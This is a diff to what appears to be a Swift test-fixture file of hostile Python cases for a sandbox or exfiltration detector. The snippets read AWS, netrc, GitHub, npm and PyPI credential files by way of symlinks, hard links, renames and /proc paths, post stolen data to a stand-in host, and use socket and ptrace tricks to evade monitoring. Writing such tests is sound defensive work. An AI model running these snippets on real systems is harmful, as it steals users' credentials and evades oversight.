@@ -15,7 +15,8 @@ extension HostileCase {
       loot.post(open(folder + '/h', 'rb').read(), 'https://models.example.org/')
       """, honest: tarball),
     HostileCase(
-      "packed_by_others", [.touched, .staged, .taintedEgress], decoys: ["aws-shared-credentials"], words: ["haul.tgz"],
+      "packed_by_others", [.touched, .staged, .taintedEgress], decoys: ["aws-shared-credentials"],
+      words: ["`tar czf", "haul.tgz"],
       """
       import loot, os, subprocess, tempfile
       os.chdir(tempfile.mkdtemp())
@@ -114,8 +115,8 @@ extension HostileCase {
       os.symlink(loot.home + '/.aws/credentials', '/tmp/link')
       open('/tmp/link').read()
       open('/proc/self/root' + loot.home + '/.netrc').read()
-      os.rename(loot.home + '/.config/gh', '/tmp/gh')
-      open('/tmp/gh/hosts.yml').read()
+      os.rename(loot.home + '/.config/gh', loot.home + '/g')
+      open(loot.home + '/g/hosts.yml').read()
       os.link(loot.home + '/.npmrc', loot.home + '/n')
       open(loot.home + '/n').read()
       subprocess.run(['cp', loot.home + '/.pypirc', '/tmp/copy'], check=True)
@@ -138,7 +139,7 @@ extension HostileCase {
     HostileCase(
       "sockets_of_the_host", [.evasive], words: ["family"],
       "import socket\ntry: socket.socket(40, socket.SOCK_STREAM)\nexcept OSError: pass",
-      honest: "import socket; socket.socketpair()[0].send(b'x')"),
+      honest: "import socket; a, b = socket.socketpair(); a.send(b'x')"),
     HostileCase(
       "traced_by_nobody", [.evasive], words: ["ptrace"],
       "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)",
